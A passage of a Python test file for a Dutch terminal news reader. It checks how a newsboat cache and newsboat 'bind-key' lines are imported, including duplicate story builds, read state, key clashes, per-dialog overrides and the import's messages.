    assert (fetched.new, fetched.updated) == (0, 0)
    assert stories() == [(link, True)]


def _one_story_feed(httpserver, guids: list[str]) -> str:
    """A feed whose items are builds of one story at one link, each with a guid of its own: its address."""
    link = httpserver.url_for("/dijk")
    items = "".join(
        f"<item><title>Dijk versterkt</title><link>{link}</link><guid isPermaLink='false'>{guid}</guid>"
        "<description>&lt;p&gt;Tekst.&lt;/p&gt;</description><pubDate>Tue, 03 Mar 2026 10:00:00 +0100</pubDate></item>"
        for guid in guids
    )
    httpserver.expect_request("/feed").respond_with_data(f"<rss version='2.0'><channel><title>Dijk</title>{items}</channel></rss>", content_type="application/rss+xml")
    return httpserver.url_for("/feed")


def test_successive_builds_of_one_story_at_one_link_kept_by_newsboat_are_imported_as_one_story(tmp_path, httpserver, monkeypatch):
    """A feed that gives its story a guid anew at each build: newsboat's cache kept five items of it, deleted ones
    among them, and the import took them for a status feed's items, five copies of one story."""
    from feedkit import run_fetch

    from feeds import import_newsboat_cache

    monkeypatch.setattr("feeds.imports.CACHE_BATCH", 2)  # the story's builds read in batches, deleted ones first
    url = _one_story_feed(httpserver, ["1005-a"])
    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    link = httpserver.url_for("/dijk")
    rows = [{"url": link, "guid": f"100{n}-a", "title": "Dijk versterkt", "feedurl": url, "deleted": int(n < 3)} for n in range(1, 6)]
    newsboat_cache(cache, {url: "Dijk"}, rows)
    listed = [Source(url)]
    imported = import_newsboat_cache(library, cache, lambda address: listed[0] if address == url else None)
    assert imported.added.new == 1
    assert [entry.article.url for entry in Library(library.path).entries()] == [link]
    fetched = run_fetch(Library(library.path), listed).results[0]
    assert (fetched.new, fetched.updated) == (0, 0)
    assert [entry.article.url for entry in Library(library.path).entries()] == [link]


def test_a_read_build_and_an_unread_build_of_one_story_are_one_story_read_and_stay_one_at_the_next_fetch(tmp_path, httpserver):
    """Two guids of one story (the first read in newsboat): the import made the read story an unread copy too, and
    the next fetch left a read copy at `/dijk#g1` and an unread one at `/dijk`."""
    url = _one_story_feed(httpserver, ["g2"])
    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    link = httpserver.url_for("/dijk")
    newsboat_cache(cache, {url: "Dijk"}, [{"url": link, "guid": guid, "title": "Dijk versterkt", "feedurl": url, "unread": int(guid == "g2")} for guid in ("g1", "g2")])
    _imported_as_one_read_story_and_fetched_so(library, cache, url, link)


def test_builds_of_one_story_kept_by_newsboat_beside_another_story_at_its_link_are_imported_as_one_story(tmp_path, httpserver):
    """A status feed's builds of one story (the first read in newsboat) beside another story at one link: the import
    made each build a story of its own, `Storing in Goes` listed twice, once unread."""
    from feedkit import run_fetch

    from feeds import import_newsboat_cache

    link = httpserver.url_for("/status/")
    items = [("build-1001-a", "Storing in Goes", 0), ("build-1002-a", "Storing in Goes", 1), ("build-1002-b", "Onderhoud", 1)]
    served = "".join(
        f"<item><title>{title}</title><link>{link}</link><guid isPermaLink='false'>{guid}</guid><description>&lt;p&gt;{title}.&lt;/p&gt;</description></item>"
        for guid, title, _unread in items
    )
    httpserver.expect_request("/feed").respond_with_data(f"<rss version='2.0'><channel><title>Status</title>{served}</channel></rss>", content_type="application/rss+xml")
    url = httpserver.url_for("/feed")
    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    rows = [{"url": link, "guid": guid, "title": title, "content": f"<p>{title}.</p>", "feedurl": url, "unread": unread} for guid, title, unread in items]
    newsboat_cache(cache, {url: "Status"}, rows)
    listed = [Source(url)]
    imported = import_newsboat_cache(library, cache, lambda address: listed[0] if address == url else None)
    assert imported.added.new == 2

    def stories() -> list[tuple[str, bool]]:
        return sorted((entry.article.title, entry.read) for entry in Library(library.path).entries())

    assert stories() == [("Onderhoud", False), ("Storing in Goes", True)]
    fetched = run_fetch(Library(library.path), listed).results[0]
    assert (fetched.new, fetched.updated) == (0, 0)
    assert stories() == [("Onderhoud", False), ("Storing in Goes", True)]


def test_a_deleted_item_at_a_stories_link_does_not_split_it_off_its_link(tmp_path, httpserver, monkeypatch):
    """An older item newsboat deleted at the link of the story still listed, of another title (its headline since
    changed): the import took the link for one of a status feed's, and stored the story at `/dijk#g2`, which the next
    fetch, finding it alone at its link, stored again at `/dijk`."""
    monkeypatch.setattr("feeds.imports.CACHE_BATCH", 1)  # the deleted item read before the story, in a batch of its own
    url = _one_story_feed(httpserver, ["g2"])
    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    link = httpserver.url_for("/dijk")
    rows = [
        {"url": link, "guid": "g1", "title": "Dijk wordt versterkt", "feedurl": url, "deleted": 1},
        {"url": link, "guid": "g2", "title": "Dijk versterkt", "feedurl": url, "unread": 0},
    ]
    newsboat_cache(cache, {url: "Dijk"}, rows)
    _imported_as_one_read_story_and_fetched_so(library, cache, url, link)


def test_two_toots_of_the_same_words_on_two_days_are_imported_as_two_posts_each_read_as_newsboat_had_it(tmp_path):
    """Two `Goedemorgen!` toots at one profile were taken for builds of one story: one story, read, and the unread
    toot of the next day lost."""
    from feeds import import_newsboat_cache

    url, link = "https://social.example/@piet.rss", "https://social.example/@piet"
    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    rows = [
        {"url": link, "guid": f"toot-{n}", "title": "Goedemorgen!", "content": "<p>Goedemorgen!</p>", "feedurl": url, "unread": n - 1, "pubDate": MARCH_3 + (n - 1) * 86400}
        for n in (1, 2)
    ]
    newsboat_cache(cache, {url: "Piet"}, rows)
    import_newsboat_cache(library, cache, lambda address: Source(url) if address == url else None)
    assert sorted((entry.article.url, entry.read) for entry in Library(library.path).entries()) == [(f"{link}#toot-1", True), (f"{link}#toot-2", False)]



# bind-key lines of a newsboat user's that do not clash: each its own key, free in the app once newsboat's own keys
# the app has beside its own (NEWSBOAT_KEYS) move to the bindings the lines give them to.
_APART = (
    "bind-key A mark-all-feeds-read", "bind-key x mark-feed-read", "bind-key a toggle-article-read", "bind-key N prev-unread",
    "bind-key C reload-all", "bind-key R hard-quit", "bind-key Q next-feed",
)  # fmt: skip


@given(st.permutations(_APART))
@settings(max_examples=25, deadline=None)
def test_bind_key_lines_that_do_not_clash_give_the_same_keys_in_any_order(lines):
    """`bind-key A mark-all-feeds-read` then `bind-key x mark-feed-read` refused x, "x does something else", though
    alone it is taken: A, moved to the library's read, still counted for mark_all_read. Swapped, A was refused."""
    from feeds.newsboat import key_bindings
    from tui.newsboat_keys import taken_keys

    found = taken_keys(key_bindings("".join(f"{line}\n" for line in lines).encode()), {})
    assert found.left_out == []
    assert found.keys == {
        "mark_library_read": "A", "mark_all_read": "M,x", "toggle_read": "m,a", "previous_unread": "p,N", "refresh": "r,C", "hard_quit": "ctrl+q,R",
        "next_section": "J,Q",
    }  # fmt: skip


@pytest.mark.parametrize("config", ["bind-key a toggle-article-read\nbind-key N prev-unread\n", "bind-key N prev-unread\nbind-key a toggle-article-read\n"])
def test_vim_users_n_and_capital_n_pair_is_taken_and_capital_n_no_longer_toggles_read(config):
    """The popular vim-style config lost its N: refused after `bind-key a toggle-article-read`, and N kept toggling read."""
    from feeds.newsboat import key_bindings
    from tui.app import NEWSBOAT_KEYS, NieuwsApp
    from tui.keys import check_keymap
    from tui.newsboat_keys import taken_keys

    found = taken_keys(key_bindings(config.encode()), {})
    assert (found.keys, found.left_out) == ({"toggle_read": "m,a", "previous_unread": "p,N"}, [])
    keymap, problems = check_keymap(found.keys, NieuwsApp.key_owners([]), NieuwsApp.screen_keys(), NEWSBOAT_KEYS)
    assert problems == [] and "N" not in keymap["toggle_read"].split(",")


def test_a_bind_key_line_that_really_clashes_is_refused_naming_both_bindings_and_the_key():
    """The refusal blamed the line's key ("x does something else in nieuws-tui") for a clash of another key's. (A key
    config.toml's [keys] gives stays the user's own.)"""
    from feeds.newsboat import key_bindings
    from tui.newsboat_keys import taken_keys

    found = taken_keys(key_bindings(b"bind-key n toggle-article-read\n"), {"next_unread": "n"})
    assert [why for _line, why in found.left_out] == ["n would be both next_unread and toggle_read in nieuws-tui"]


# bind-key lines of which some name the same key: newsboat binds a key to the later line's operation.
_SAME_KEYS = (*_APART, "bind-key N toggle-article-read", "bind-key x hard-quit", "bind-key Q quit", "bind-key q hard-quit")


def _keymap(lines):
    from feeds.newsboat import key_bindings
    from tui.keys import key_set
    from tui.newsboat_keys import taken_keys

    found = taken_keys(key_bindings("".join(f"{line}\n" for line in lines).encode()), {})
    return found, {name: key_set(keys) for name, keys in found.keys.items()}


def _last_of_each_key(lines):
    return [line for number, line in enumerate(lines) if all(later.split()[1] != line.split()[1] for later in lines[number + 1 :])]


@given(st.permutations(_SAME_KEYS))
@settings(max_examples=25, deadline=None)
def test_bind_key_lines_give_the_same_keys_in_any_order_but_for_a_key_two_lines_name_which_the_later_takes(lines):
    """`bind-key N prev-unread` then `bind-key N toggle-article-read` refused the toggle; the other way round, the
    toggle was passed over and prev-unread took N. newsboat binds N to the later line's operation."""
    found, keymap = _keymap(lines)
    assert keymap == _keymap(sorted(_last_of_each_key(list(lines))))[1]
    gave_way = {line.key for line, _later in found.given_way}
    assert len(found.given_way) == len(lines) - len(_last_of_each_key(list(lines))) and gave_way <= {"N", "x", "Q", "q"}


@pytest.mark.parametrize(
    ("lines", "keys"),
    [
        (("bind-key C mark-feed-read", "bind-key A mark-all-feeds-read"), {"mark_all_read": "M,C", "mark_library_read": "A"}),
        (("bind-key Q quit", "bind-key q hard-quit"), {"quit": "Q", "list.close_article": "Q", "reader.back": "Q", "hard_quit": "ctrl+q,q"}),
        (("bind-key x next-unread", "bind-key n toggle-article-read"), {"next_unread": "x", "toggle_read": "m,N,n"}),
    ],
)
@pytest.mark.parametrize("reverse", [False, True])
def test_two_bind_key_lines_that_swap_keys_are_both_taken_in_either_order(lines, keys, reverse):
    """`bind-key C mark-feed-read` with `bind-key A mark-all-feeds-read` took one line and refused the other ("A C
    would be both mark_all_read and mark_library_read"): the user got half of the swap."""
    from tui.keys import key_set

    found, keymap = _keymap(lines[::-1] if reverse else lines)
    assert (keymap, found.left_out, found.given_way) == ({name: key_set(each) for name, each in keys.items()}, [], [])
    assert len(found.taken) == 2


def test_a_bind_key_line_that_names_a_key_a_later_line_binds_again_gives_way_and_the_import_says_to_which(cli, config, tmp_path):
    result = _import_newsboat(cli, config, tmp_path, "bind-key N prev-unread\nbind-key a toggle-article-read\nbind-key N toggle-article-read\n")
    lines = [line for line in result.stderr.splitlines() if "key bindings" in line]
    assert lines == [
        f"nieuws-tui: took newsboat's key bindings from {tmp_path}/.newsboat/config: a as toggle_read",
        f"nieuws-tui: {tmp_path}/.newsboat/config: left out newsboat's key bindings: line 1 (N gave way to line 3, as in newsboat)",
    ]
    assert '[keys]\ntoggle_read = "m,N,a"\n' in config.read_text(encoding="utf-8")


def test_a_later_bind_key_line_for_one_dialog_overrides_an_earlier_line_only_there():
    """`bind-key x up` then `bind-key x up article` kept x as up in the reader alone: the later line dropped the
    earlier everywhere, and the import said x gave way, where newsboat overrides only the article's binding."""
    found, keymap = _keymap(("bind-key x up", "bind-key x up article"))
    assert all("x" in keymap[name] for name in ("list.up", "reader.up", "help.up"))
    assert (found.left_out, found.given_way) == ([], [])


def test_an_earlier_bind_key_line_keeps_its_key_outside_the_dialog_a_later_line_binds_it_in():
    found, keymap = _keymap(("bind-key x up", "bind-key x pagedown article"))
    assert ("x" in keymap["list.up"], "x" in keymap["help.up"], "reader.up" in keymap, "x" in keymap["reader.page_down"]) == (True, True, False, True)
    assert [(line.key, later.key, later.dialog) for line, later in found.given_way] == [("x", "x", "article")]


def test_a_bind_key_line_for_one_dialog_whose_binding_acts_everywhere_is_refused_beside_an_earlier_line():
    """`bind-key ^D pagedown` then `bind-key ^D open-in-browser article` gave ctrl+d to open_in_browser alone:
    ctrl+d stopped paging in the list and opened the browser everywhere."""
    found, keymap = _keymap(("bind-key ^D pagedown", "bind-key ^D open-in-browser article"))
    assert "open_in_browser" not in keymap and all("ctrl+d" in keymap[name] for name in ("list.page_down", "reader.page_down", "help.page_down"))
    assert [(line.operation, why) for line, why in found.left_out] == [("open-in-browser", "^D stays pagedown outside article: nieuws-tui's open_in_browser acts everywhere")]
    assert found.given_way == []


def test_a_bind_key_line_for_one_dialog_leaves_an_earlier_line_whose_binding_acts_everywhere_whole():
    """`bind-key N toggle-article-read` then `bind-key N up article` dropped the toggle everywhere."""
    found, keymap = _keymap(("bind-key N toggle-article-read", "bind-key N up article"))
    assert "toggle_read" not in keymap and "reader.up" not in keymap  # (N is toggle_read's as newsboat's already)
    assert [(line.operation, why) for line, why in found.left_out] == [("up", "N stays toggle-article-read in article too: nieuws-tui's toggle_read acts everywhere")]
    assert found.given_way == []


def test_a_bind_key_line_that_gives_way_in_one_dialog_is_said_with_that_dialog(cli, config, tmp_path):
    result = _import_newsboat(cli, config, tmp_path, "bind-key x up\nbind-key x pagedown article\n")
    assert f"nieuws-tui: {tmp_path}/.newsboat/config: left out newsboat's key bindings: line 1 (x gave way to line 2 in article, as in newsboat)" in result.stderr.splitlines()


def test_a_bind_key_line_whose_operation_newsboat_has_in_some_dialogs_leaves_an_earlier_line_acting_everywhere_whole():
    """newsboat's open is the lists' alone: `bind-key x open` overrides an earlier `bind-key x toggle-article-read`
    there, which the app's toggle_read, acting everywhere, cannot do."""
    found, keymap = _keymap(("bind-key x toggle-article-read", "bind-key x open"))
    assert "x" in keymap["toggle_read"] and "list.open" not in keymap
    assert [(line.operation, why) for line, why in found.left_out] == [("open", "x stays toggle-article-read: nieuws-tui's toggle_read acts everywhere, list.open only in part of it")]


def test_a_bind_key_line_for_one_dialog_that_repeats_an_earlier_line_there_is_passed_over():
    found, keymap = _keymap(("bind-key x toggle-article-read", "bind-key x toggle-article-read article"))
    assert (keymap, found.left_out, found.given_way, [line.at for line, _names in found.taken]) == ({"toggle_read": {"m", "N", "x"}}, [], [], [0])


_X_LINES = [f"bind-key x {operation}{f' {dialog}' if dialog else ''}" for operation in ("up", "pagedown", "toggle-article-read", "open-in-browser", "open", "next-unread") for dialog in ("", "article", "articlelist", "help")]


@given(st.sampled_from(_X_LINES), st.sampled_from([line for line in _X_LINES if len(line.split()) == 4]))
@settings(max_examples=40, deadline=None)
def test_a_bind_key_line_for_one_dialog_never_takes_an_earlier_lines_key_in_another(first, then):
    """`bind-key x up` then `bind-key x up article` (or `pagedown article`, `open-in-browser article`) took x from
    up in the list too: newsboat overrides the earlier line only in the later line's dialog."""
    from tui.newsboat_keys import DIALOGS, OPERATIONS

    found, keymap = _keymap((first, then))
    left = {line.at for line, _why in found.left_out}
    assert not left & {line.at for line, _later in found.given_way}
    if 0 in left:
        return
    _bind, _key, operation, *dialog = first.split()
    names = OPERATIONS[operation]
    parts = {DIALOGS[dialog[0]]} if dialog else {"list", "reader", "help"} if any("." not in name for name in names) else {name.partition(".")[0] for name in names}
    for part in parts - {DIALOGS[then.split()[3]]}:
        assert any("x" in keymap.get(name, set()) for name in names if "." not in name or name.partition(".")[0] == part), (part, found.left_out)


@pytest.mark.parametrize(
    ("line", "keys", "lost"),
    [
        ("bind-key m next-unread", {"next_unread": "n,m", "toggle_read": "N"}, "toggle_read lost m to line 1"),
        ("bind-key j next-unread", {"next_unread": "n,j", "list.down": "down", "reader.down": "down"}, "list.down, reader.down lost j to line 1"),
        ("bind-key SPACE next-unread", {"next_unread": "n,space", "page_or_next_unread": ""}, "page_or_next_unread lost SPACE to line 1, its only key"),
    ],
)
def test_a_bind_key_line_takes_its_key_from_a_binding_no_line_names_and_the_import_says_which_lost_it(cli, config, tmp_path, line, keys, lost):
    """`bind-key SPACE next-unread` and `bind-key m next-unread` alone were refused ("would be both"), where newsboat's
    bind-key takes the key and the key's old operation loses it."""
    from tui.keys import key_set

    result = _import_newsboat(cli, config, tmp_path, f"{line}\n", "# mijn bronnen\n")
    assert f"nieuws-tui: {tmp_path}/.newsboat/config: nieuws-tui's key bindings that lost a key to newsboat's: {lost}" in result.stderr.splitlines()
    assert "left out newsboat's key bindings" not in result.stderr
    assert {name: key_set(each) for name, each in sources.load_config().keys.items()} == {name: key_set(each) for name, each in keys.items()}
    assert config.read_text(encoding="utf-8").startswith("# mijn bronnen\n\n[keys]\n")


def test_a_binding_a_bind_key_line_leaves_without_a_key_has_none_in_config_toml_and_the_app_says_nothing_at_start(cli, config, tmp_path):
    """The import left page_or_next_unread out of [keys] (it could not say "no key"), and every start of the app then
    said it lost space: what the user asked for. It writes "" for it, and the keys screen shows it with no key."""
    from tui.app import NEWSBOAT_KEYS, NieuwsApp
    from tui.keys import check_keymap, key_groups
    from tui.newsboat_keys import _TEXTUALS

    _import_newsboat(cli, config, tmp_path, "bind-key SPACE next-unread\n", "")
    assert 'page_or_next_unread = ""\n' in config.read_text(encoding="utf-8")
    keys = sources.load_config().keys
    owners = [*NieuwsApp.key_owners(_TEXTUALS), *NieuwsApp.screen_keys()]
    keymap, problems = check_keymap(keys, owners[:-2], owners[-2:], NEWSBOAT_KEYS)
    assert problems == []
    rows = {name: keys for _title, group in key_groups(owners, keymap) for keys, _said, name in group}
    assert rows["page_or_next_unread"] == "no key" and rows["next_unread"] == "n space"


def test_a_bind_key_line_for_one_dialog_whose_binding_acts_everywhere_is_said_to_be_taken_everywhere(cli, config, tmp_path):
    """`bind-key x open-in-browser article` took x everywhere without a word: in the list too, where newsboat's x does
    nothing. One whose key another binding has outside the dialog (newsboat's j stays down in its lists) is left out."""
    result = _import_newsboat(cli, config, tmp_path, "bind-key x open-in-browser article\nbind-key ^U up article\nbind-key j open-in-browser article\n")
    assert [line for line in result.stderr.splitlines() if "key bindings" in line] == [
        f"nieuws-tui: took newsboat's key bindings from {tmp_path}/.newsboat/config: x as open_in_browser everywhere, not in article alone; ^U as reader.up",
        f"nieuws-tui: {tmp_path}/.newsboat/config: left out newsboat's key bindings: line 3 (j would be both open_in_browser and list.down in nieuws-tui)",
    ]


def test_of_three_bind_key_lines_on_one_key_the_one_whose_binding_is_gone_is_said_to_give_way():
    """`bind-key x up`, `x pagedown article`, `x up article`: the import said line 1 gave way to line 2, where line 3
    gives up back its article, and line 2 is the one that gave way."""
    found, keymap = _keymap(("bind-key x up", "bind-key x pagedown article", "bind-key x up article"))
    assert all("x" in keymap[name] for name in ("list.up", "reader.up", "help.up")) and "reader.page_down" not in keymap
    assert [(line.at, later.at) for line, later in found.given_way] == [(1, 2)]


def test_bind_key_lines_of_a_config_toml_that_cannot_be_written_are_said_in_one_line_as_not_written(config, tmp_path):
    """With config.toml's folder read-only the import ended in an error; a config.toml that cannot take the keys said
    lines gave way "as in newsboat", as if it had."""
    from test_language_of_errors import as_anyone

    newsboat_home(tmp_path, "bind-key N prev-unread\nbind-key a toggle-article-read\nbind-key N toggle-article-read\nbind-key m next-unread\n")
    config.write_text('[[source]]\nurl = "https://nos.nl/rss"\n', encoding="utf-8")
    config.with_name(config.name + ".lock").touch()
    folder = config.parent
    folder.chmod(0o555)
    try:
        result = subprocess.run(
            [*nieuws_tui_command(), "sources", "import-newsboat"],
            env={**os.environ, "NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)},
            capture_output=True, text=True, timeout=60, preexec_fn=as_anyone,
        )  # fmt: skip
    finally:
        folder.chmod(0o755)
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[1:] == [f"nieuws-tui: {config}: cannot write: no new file can be made in {folder} (Permission denied); newsboat's key bindings are left out"]
    assert config.read_text(encoding="utf-8") == '[[source]]\nurl = "https://nos.nl/rss"\n'


def test_newsboats_open_in_browser_and_mark_read_is_taken_with_the_key_a_line_gives_it():
    """`bind-key o open-in-browser-and-mark-read` was left out: "nieuws-tui has no open-in-browser-and-mark-read"."""
    found, _keys = _keymap(("bind-key o open-in-browser-and-mark-read",))
    assert found.left_out == []
    assert found.keys == {"open_in_browser_and_mark_read": "O,o", "open_in_browser": ""}  # o is its alone, as in newsboat
